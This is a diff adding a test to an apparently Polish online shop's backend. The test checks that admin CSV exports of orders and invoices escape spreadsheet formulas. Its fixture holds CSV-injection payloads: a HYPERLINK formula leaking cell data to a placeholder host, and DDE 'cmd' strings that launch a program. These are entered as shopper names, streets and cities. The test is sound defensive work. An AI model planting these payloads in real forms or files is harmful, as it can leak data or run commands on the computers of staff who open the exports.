@@ -135,6 +135,69 @@ describeEachDb(
           .statusCode,
       ).toBe(403);
     });
+
+    it('no cell of any export runs as a formula, whatever a shopper typed', async () => {
+      const { app, clock } = ctx();
+      clock.set('2027-02-10T10:00:00Z');
+      const typed = {
+        '=': '=HYPERLINK("http://zly.example/?d="&A1,"Kliknij")',
+        '+': '+48 SUM(A1:A9)',
+        '-': "-2+3+cmd|' /C calc'!A0",
+        '@': "@SUM(1+1)*cmd|' /C calc'!A0",
+      };
+      const names: string[] = [];
+      for (const [start, text] of Object.entries(typed)) {
+        const buyer = await makeShopper(app);
+        const address = await app.inject({
+          method: 'POST',
+          url: '/api/users/me/addresses',
+          headers: bearer(buyer.token),
+          payload: {
+            name: text,
+            street: text,
+            city: text,
+            postalCode: '30-001',
+            country: 'Polska',
+          },
+        });
+        expect(address.statusCode, address.body).toBe(201);
+        const company = await app.inject({
+          method: 'POST',
+          url: '/api/users/me/invoice-details',
+          headers: bearer(buyer.token),
+          payload: {
+            name: `${start}Firma ${text}`,
+            street: text,
+            postalCode: '00-001',
+            city: text,
+            country: 'Polska',
+            taxId: '1234563218',
+          },
+        });
+        expect(company.statusCode, company.body).toBe(201);
+        names.push(text, `${start}Firma ${text}`);
+        for (const invoiceDetailsId of [null, company.json().id as number]) {
+          const product = await makeProduct(app, { price: 2_000 });
+          const order = await placeOrder(app, buyer, [{ productId: product, quantity: 1 }], {
+            shippingAddressId: address.json().id,
+            invoiceDetailsId,
+          });
+          expect((await payInSimulator(app, order.paymentUrl)).statusCode).toBe(303);
+        }
+      }
+      const cells: string[] = [];
+      for (const kind of ['orders', 'invoices']) {
+        const res = await get(`/api/admin/exports/${kind}.csv?from=2027-02-10&to=2027-02-10`);
+        expect(res.statusCode).toBe(200);
+        cells.push(...table(res.body).flat());
+      }
+      // What Excel and LibreOffice run: a cell beginning with = + - @, a tab or a CR, unless it
+      // is a plain negative number.
+      const runs = (cell: string) => /^[-=+@\t\r]/.test(cell) && !/^-\d+(,\d+)?$/.test(cell);
+      expect(cells.filter(runs)).toEqual([]);
+      // Each typed text is there, shown as the shopper typed it behind an apostrophe.
+      for (const name of names) expect(cells).toContain(`'${name}`);
+    });
   },
   MANY_UNPAID_ORDERS,
 );
